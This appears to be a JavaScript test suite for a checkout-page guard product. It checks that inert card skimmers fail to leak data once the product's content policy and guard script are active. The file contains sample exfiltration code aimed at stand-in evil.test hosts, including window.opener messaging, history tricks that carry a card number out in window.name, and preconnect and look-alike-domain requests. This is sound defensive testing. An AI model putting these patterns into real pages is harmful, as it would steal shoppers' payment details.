// Twenty-three inert skimmers of our own, one for each way out of a page (reference/payments.md 4.3), and what tries to undo the guard, on a
// shop's paying page behind Storeward: its policy, its guard script, its reports, its alerts. The script that they stand in was approved, as
// a shop's own would be that turned bad. The first run is without protection: there they get through, so the others can fail.
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { sleep } from './lib/processes.mjs';
import { marker, payingShop, run, runAndClick, sink, victim, withoutGuard } from './lib/skimmers.mjs';
import { runInFrontOf } from './lib/stand.mjs';

/** What is left open, and who sees it: docs/checkout.md, "What stays open". */
const WATCHED = {
  preconnect: 'says a host\'s name; the guard reports it, and staff are told',
  'same-origin': 'goes through Storeward, which looks for card numbers in it',
};
/** Beside them with no guard: what a content policy leaves open by itself, as it was measured. */
const BY_POLICY_ALONE = ['location', 'meta-refresh', 'preconnect', 'same-origin', 'webrtc', 'webrtc-in-a-frame', 'window-open'];

let attacker;
let shop;
let stand;
/** Browsers, each with a profile of its own: as it is, as one that has no lists of hosts, and that one with the guard's tag taken out of the page. */
const browsers = {};
const homes = [];
let ways;
let tricks;
let links;

before(async () => {
  attacker = await sink();
  shop = await payingShop(attacker.port);
  stand = await runInFrontOf(shop.upstream, '[checkout]\nmode = "learn"\npages = ["/checkout"]\nproviders = ["stripe", "paypal"]\n');
  for (const [name, hosts] of [['whole', true], ['old', false], ['bare', false]]) {
    homes.push(await mkdtemp(path.join(os.tmpdir(), 'storeward-victim-')));
    browsers[name] = await victim(homes.at(-1), { ca: stand.ready.ca, attacker, hosts });
  }
  await withoutGuard(browsers.bare, stand.ready.ca);
  const page = await browsers.old.newPage();
  await page.goto(`${shop.home}/checkout`);
  ({ ways, tricks, links } = await page.evaluate(() => globalThis.skimmers));
  await page.close();
});

after(async () => {
  for (const browser of Object.values(browsers)) await browser.close();
  await stand?.stop();
  await shop?.stop();
  await attacker?.stop();
  for (const home of homes) await rm(home, { recursive: true, force: true, maxRetries: 5 });
});

/** Where these get through the page is gone: each has one of its own. */
const LEAVING = [
  'form', 'location', 'meta-refresh', 'natives-changed', 'lists-changed-for-a-link', 'lists-changed-for-a-window',
  'frame-with-a-page', 'frame-written-with-a-script', 'frame-written-with-an-element', 'own-window-lent', 'blob-gone-to',
  'window-that-opened-this', 'frame-that-leaves-from-a-sandbox',
  // One at a time: a window above all others takes the click for itself, and so does the question for a passkey.
  'window-above-all', 'passkey-of-another', 'passkey-for-another',
];

const guarded = () => new URL('/checkout', stand.ready.shop).href;

/** Runs those given and gives the names of those by which the marker arrived, in order. */
async function through(browser, address, names, { patience = 6000, atOnce = names.length, least = [] } = {}) {
  const staying = names.filter((name) => !LEAVING.includes(name));
  const batches = names.filter((name) => LEAVING.includes(name)).map((name) => [name]);
  while (staying.length > 0) batches.push(staying.splice(0, atOnce));
  const found = [];
  for (const batch of batches) {
    const stays = !batch.some((name) => LEAVING.includes(name));
    found.push(...(await run(browser, address, batch, { attacker, notes: shop.notes, patience, least, stays })));
  }
  return found.sort();
}

const listed = async (...words) => JSON.parse(await stand.say(['checkout', ...words, '--json']));

/** What `look` gives once it fits. */
async function until(what, look, fits) {
  let found;
  for (const end = Date.now() + 90_000; Date.now() < end;) {
    found = await look();
    if (fits(found)) return found;
    await sleep(500);
  }
  return assert.fail(`not in time: ${what}: ${JSON.stringify(found)}`);
}

test('without protection every one of the twenty-three gets through', async () => {
  assert.equal(ways.length, 23);
  assert.deepEqual(await through(browsers.old, `${shop.home}/checkout`, ways, { patience: 60_000 }), [...ways].sort());
});

test('behind a guard that only learns they get through as well, and the inventory names where to', async () => {
  assert.deepEqual(await through(browsers.whole, guarded(), ways, { patience: 60_000 }), [...ways].sort());
  const rows = await until('the inventory', () => listed('scripts', '--show', 'all'), (rows) => {
    const kinds = new Set(rows.filter(({ address }) => address.includes('.evil.test')).map(({ kind }) => kind));
    // A form leaves the page at once, and its report may be lost with it.
    return ['script', 'connect', 'image', 'style', 'font', 'media', 'object', 'frame'].every((kind) => kinds.has(kind));
  });
  assert.ok(rows.every(({ status }) => status === 'new'), 'nobody approved anything yet');
  const alerts = await listed('alerts');
  for (const { address } of rows) assert.ok(alerts.some(({ kind, what }) => kind === 'script_new' && what.endsWith(` ${address}`)), address);
});

test('the script is approved, and the page held to what was', async () => {
  const rows = await listed('scripts', '--show', 'all');
  const own = rows.find(({ kind, address }) => kind === 'script' && address.endsWith('/skimmers.js'));
  await stand.say(['checkout', 'approve', own.id, '--scope', 'address', '--owner', 'The shop', '--why', 'It turned bad after this']);
  // Code of the page that has a nonce, and as such a nonce that is worth stealing.
  const code = rows.filter(({ kind }) => kind === 'inline');
  assert.equal(code.length, 2);
  for (const { id } of code) await stand.say(['checkout', 'approve', id, '--scope', 'shape', '--owner', 'The shop', '--why', 'Shows the total']);
  await stand.say(['checkout', 'hold', '/checkout', 'enforce', '--yes']);
  const page = await browsers.whole.newPage();
  const answer = async () => (await page.goto(guarded())).headers();
  const headers = await until('the policy', answer, (headers) => headers['content-security-policy'] !== undefined);
  assert.match(headers['content-security-policy'], /default-src 'none'; script-src [^;]*\/skimmers\.js/);
  assert.match(headers['content-security-policy'], /script-src-elem 'unsafe-inline' [^;,]*\/skimmers\.js/);
  assert.equal(headers['cross-origin-opener-policy'], 'same-origin-allow-popups');
  // Own and providers' hosts, those with a part for any name, too: a list that the browser could not read would let everything out below.
  assert.match(headers['connection-allowlist'], /^\(response-origin( "https:\/\/[\w.*:-]+\/\*")+\);redirects=allow$/);
  for (const host of ['https://*.js.stripe.com', 'https://*.paypal.com', new URL(guarded()).origin]) {
    assert.ok(headers['connection-allowlist'].includes(`"${host}/*"`), host);
  }
  assert.match(await page.content(), /<head><script src="\/\.storeward\/checkout\/guard\.js/);
  await page.close();
});

/**
 * Waits for alerts with these words. Of one client sixty messages a minute are read, and the runs before may have used them up: those that
 * are to be told are tried once more then.
 */
async function told(names, wanted) {
  const isThere = (alerts) => wanted.every((words) => alerts.some(({ what, closed_at: closed }) => what.trim() === words && !closed));
  await sleep(3_000);
  await until(`alerts: ${wanted}`, async () => {
    const alerts = await listed('alerts');
    if (!isThere(alerts)) await through(browsers.old, guarded(), names, { patience: 1_500 });
    return alerts;
  }, isThere);
}

/** That no more than two got out, each of them known. */
function isWatched(out) {
  assert.ok(out.length <= 2, out.join(', '));
  for (const name of out) assert.ok(WATCHED[name], `${name} is open and nobody watches it`);
}

test('behind policy and guard at most two are open, and staff are told of what was tried', async () => {
  isWatched(await through(browsers.old, guarded(), ways));
  const wanted = ['preconnect seen evil.test', 'webrtc blocked', 'window_open blocked evil.test', 'navigate blocked evil.test'];
  await told(['preconnect', 'webrtc', 'window-open', 'location'], wanted);
});

test('with the browser’s own list of hosts, only what goes through Storeward is open', async () => {
  assert.deepEqual(await through(browsers.whole, guarded(), ways, { least: ['same-origin'] }), ['same-origin']);
});

test('providers’ hosts are reached as the policy names them, and none beside them', async () => {
  const page = await browsers.whole.newPage();
  await page.goto(guarded());
  const word = marker();
  await page.evaluate(async ({ word, port }) => {
    const put = (name, src) => new Promise((done) => {
      const made = document.createElement(name);
      made.addEventListener('load', done);
      made.addEventListener('error', done);
      made.src = src;
      document.head.append(made);
    });
    const ask = (url) => fetch(url, { mode: 'no-cors' }).catch(() => {});
    for (const host of ['js.stripe.com', 'm.js.stripe.com', 'www.paypal.com']) await put('script', `https://${host}/s?${word}`);
    for (const host of ['api.stripe.com', 'www.sandbox.paypal.com']) await ask(`https://${host}/c?${word}`);
    await put('img', `https://q.stripe.com/i?${word}`);
    for (const host of ['files.stripe.com', `js.stripe.com.evil.test:${port}`, 'paypal.com']) {
      await put('script', `https://${host}/s?${word}`);
      await ask(`https://${host}/c?${word}`);
    }
  }, { word, port: attacker.port });
  const reached = attacker.arrived.filter((line) => line.includes(word)).map((line) => line.split(/[ ?]/)[1]);
  assert.deepEqual(reached, ['js.stripe.com/s', 'm.js.stripe.com/s', 'www.paypal.com/s', 'api.stripe.com/c', 'www.sandbox.paypal.com/c', 'q.stripe.com/i']);
  await page.close();
});

test('what goes through Storeward does not go with a card’s number in it, and is told', async () => {
  const page = await browsers.whole.newPage();
  await page.goto(guarded());
  const sent = (body) => page.evaluate(async (text) => (await fetch('/checkout/note', { method: 'POST', body: text })).status, body);
  assert.equal(await sent('a word'), 204);
  assert.equal(await sent('4242 4242 4242 4242'), 422);
  assert.ok(shop.notes.includes('a word'));
  assert.ok(!shop.notes.some((note) => /4242/.test(note)), 'the shop was handed a card\'s number');
  await page.close();
});

test('the policy of the page alone leaves seven open', async () => {
  assert.deepEqual(await through(browsers.bare, guarded(), ways, { least: BY_POLICY_ALONE }), BY_POLICY_ALONE);
});

test('nothing undoes the guard: fresh natives, changed natives, links, windows, the nonce', async () => {
  assert.deepEqual(await through(browsers.old, guarded(), tricks), []);
  await told(['link-by-hand', 'passkey-told-of'], ['popup blocked evil.test', 'credentials blocked stripe.com']);
});

test('nor does a link that a person clicks, wherever it stands and whenever its address is put in', async () => {
  const out = async (browser, patience) => {
    const found = [];
    for (const name of links) if (await runAndClick(browser, guarded(), name, { attacker, patience })) found.push(name);
    return found;
  };
  assert.deepEqual(await out(browsers.old, 1_500), []);
  assert.deepEqual(await out(browsers.bare, 30_000), links, 'some do not even work without the guard');
});

test('no window reaches another: not the one that opened it, of the shop or of another host', async () => {
  for (const browser of [browsers.old, browsers.whole]) {
    const page = await browser.newPage();
    await page.goto(guarded());
    await page.evaluate(() => document.querySelector('#terms').setAttribute('rel', 'opener'));
    await page.evaluate(() => document.querySelector('#terms').setAttribute('href', '/checkout'));
    const [second] = await Promise.all([browser.waitForEvent('page'), page.locator('#terms').click()]);
    await second.waitForLoadState();
    assert.equal(await second.evaluate(() => globalThis.opener), null);
    await browser.route('https://opener.evil.test/**', (route) => route.fulfill({
      contentType: 'text/html',
      body: `<button>Sale</button><script>
        onmessage = ({ data }) => { document.title = data; };
        document.querySelector("button").onclick = () => {
          const shop = open(${JSON.stringify(guarded())});
          setInterval(() => shop.postMessage("which card?", "*"), 100);
        };</script>`,
    }));
    await page.goto('https://opener.evil.test/');
    const [shopping] = await Promise.all([browser.waitForEvent('page'), page.locator('button').click()]);
    await shopping.waitForLoadState();
    await shopping.locator('#card').fill('4000');
    await sleep(1_500);
    assert.equal(await page.title(), '');
    assert.equal(await shopping.evaluate(() => globalThis.opener), null);
    for (const open of [page, second, shopping]) await open.close();
  }
});

test('a message hands over no window of the shop that nobody guards', async () => {
  for (const browser of [browsers.old, browsers.whole]) {
    const back = '<script>opener.postMessage("paid", "*")</script>';
    await browser.route('**/returned', (route) => route.fulfill({ contentType: 'text/html', body: back }));
    const page = await browser.newPage();
    await page.goto(guarded());
    await page.evaluate(() => {
      const link = document.querySelector('#terms');
      for (const [name, value] of [['rel', 'opener'], ['target', 'second'], ['href', '/returned']]) link.setAttribute(name, value);
      addEventListener('message', ({ data, source }) => {
        document.title = `${data} by ${source === null ? 'nobody' : 'somebody'}`;
      });
    });
    await page.locator('#terms').click();
    await page.waitForFunction(() => document.title.startsWith('paid'));
    assert.equal(await page.title(), 'paid by nobody');
    await page.close();
    await browser.unroute('**/returned');
  }
});

/** Ways back to the page of another host that led here: past it, by a frame, faster than anybody counts, from where another step ended. */
const BACK = {
  back: () => history.back(),
  'by as many steps as say something': () => history.go(-5),
  'two at once': () => {
    history.pushState(1, '', '#1');
    for (let count = 0; count < 5; count += 1) history.back();
  },
  'steps that overtake each other': () => {
    for (const at of [1, 2]) history.pushState(at, '', `#${at}`);
    for (const by of [-1, -2, -1, -2, -1]) history.go(by);
  },
  'once another is done': () => {
    history.pushState(1, '', '#1');
    for (const owner of [window, navigation]) owner.addEventListener(owner === window ? 'popstate' : 'navigate', () => history.go(-1));
    history.back();
  },
  'by a frame': () => {
    const { contentWindow: inner } = document.body.appendChild(document.createElement('iframe'));
    Object.getOwnPropertyDescriptor(inner, 'name').set.call(window, document.querySelector('#card').value);
    inner.history.pushState(1, '');
    inner.history.go(-9);
    inner.History.prototype.back.call(history);
  },
};

test('a page goes back to no other host’s, and its name is told nobody there', async () => {
  for (const browser of [browsers.old, browsers.whole]) {
    const page = await browser.newPage();
    const body = `<a href="${guarded()}">Sale</a><script>onpageshow = () => { document.title = location.search + name; }</script>`;
    await page.route('https://ad.evil.test/**', (route) => route.fulfill({ contentType: 'text/html', body }));
    for (const [how, act] of Object.entries(BACK)) {
      await page.goto('https://ad.evil.test/ad');
      await page.evaluate(() => [0, 1, 2, 3, 4, 5, 6, 7, 8].forEach((at) => history.pushState(null, '', `/ad?${at}`)));
      await Promise.all([page.waitForURL(guarded()), page.locator('a').click()]);
      await page.locator('#card').fill('4000');
      await page.locator('h1').click();
      await page.evaluate(() => { window.name = document.querySelector('#card').value; });
      await page.evaluate(act);
      await sleep(700);
      assert.equal(new URL(page.url()).pathname, '/checkout', how);
      assert.equal(await page.evaluate(() => window.name), '4000');
      // The buyer goes where they like, and nothing goes with them.
      for (let count = 0; count < 4 && page.url().startsWith(guarded()); count += 1) await page.goBack();
      assert.equal(page.url(), 'https://ad.evil.test/ad?8');
      assert.equal(await page.title(), '?8', how);
    }
    await until('an alert of it', async () => {
      await page.goto(guarded());
      await page.evaluate(() => history.back());
      await sleep(1_500);
      return listed('alerts');
    }, (alerts) => alerts.some(({ what }) => what.trim() === 'navigate blocked'));
    await page.close();
  }
});

test('a hint is told that is gone again, that stands in a frame, that was another a moment ago', async () => {
  const page = await browsers.old.newPage();
  await page.goto(guarded());
  await page.evaluate(() => {
    const hint = (of, name, parent = of.head) => {
      const made = of.createElement('link');
      made.rel = 'preconnect';
      made.href = `https://x.${name}.test`;
      parent.append(made);
      return made;
    };
    hint(document, 'gone').remove();
    hint(document, 'href-before').href = '/';
    hint(document, 'rel-before').rel = 'author';
    const frame = document.createElement('iframe');
    document.body.append(frame);
    hint(frame.contentDocument, 'in-a-frame');
    const inner = document.createElement('div');
    hint(document, 'deep', inner);
    document.body.append(inner);
    const own = document.createElement('link');
    own.rel = 'preconnect';
    own.href = '/';
    document.head.append(own);
  });
  const wanted = ['gone', 'href-before', 'rel-before', 'in-a-frame', 'deep'].map((name) => `preconnect seen ${name}.test`);
  await until('alerts of hints', () => listed('alerts'), (alerts) => wanted.every((words) => alerts.some(({ what }) => what.trim() === words)));
  await page.close();
});

test('those would get through otherwise', async () => {
  // The policies refuse these by themselves: workers, files by a nonce that was stolen, a way to a window that went to a page like any other.
  const refused = ['worker-of-text', 'window-that-opened-this', ...tricks.filter((trick) => trick.startsWith('nonce-'))];
  const some = tricks.filter((trick) => !refused.includes(trick));
  const out = await through(browsers.bare, guarded(), some, { patience: 60_000, atOnce: 5 });
  assert.deepEqual(out, some.sort(), 'some do not even work without the guard');
});

test('what is kept of it names no more than a host', async () => {
  const report = await stand.say(['checkout', 'report']);
  const kept = [report, JSON.stringify(await listed('alerts')), JSON.stringify(await listed('scripts', '--show', 'all'))].join('\n');
  assert.match(kept, /evil\.test/);
  assert.doesNotMatch(kept, /card[0-9a-f]{12}/, 'it holds what was to be stolen');
  const log = await readFile(path.join(stand.dir, 'storeward.log'), 'utf8');
  assert.doesNotMatch(log, /card[0-9a-f]{12}/);
});

test('a buyer notices nothing: the form is sent, links and windows of the shop open, a frame may be written', async () => {
  const browser = browsers.whole;
  const page = await browser.newPage();
  const faults = [];
  page.on('console', (message) => ['error', 'warning'].includes(message.type()) && faults.push(message.text()));
  page.on('pageerror', (error) => faults.push(error.message));
  await page.goto(guarded());
  const [terms] = await Promise.all([browser.waitForEvent('page'), page.locator('#terms').click()]);
  await terms.waitForURL('**/blank');
  await terms.close();
  const opened = await Promise.all([browser.waitForEvent('page'), page.evaluate(() => globalThis.open('/blank') === null)]);
  await opened[0].close();
  const text = await page.evaluate(() => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    frame.contentDocument.body.append('words');
    const list = document.createElement('ul');
    list.innerHTML = '<li>a</li>';
    list.append('b', document.createElement('li'));
    document.body.replaceChildren(list, ...document.body.childNodes);
    return `${frame.contentDocument.body?.textContent} ${list.childNodes.length} ${window.length}`;
  });
  assert.equal(text, ' 3 1');
  await page.locator('#card').fill('nothing');
  await page.locator('#pay').focus();
  await page.keyboard.press('Enter');
  await page.waitForURL('**/blank');
  assert.deepEqual(faults.filter((fault) => !/404/.test(fault)), []);
  await page.close();
});

test('a guard that learns again tells, and stops nothing', async () => {
  await stand.say(['checkout', 'hold', '/checkout', 'learn']);
  const page = await browsers.whole.newPage();
  await until('the policy is gone', async () => (await page.goto(guarded())).headers(), (headers) => headers['content-security-policy'] === undefined);
  await page.close();
  const some = ['window-open', 'location', 'webrtc-in-a-frame', 'link-by-hand'];
  assert.deepEqual(await through(browsers.old, guarded(), some, { patience: 60_000 }), [...some].sort());
});
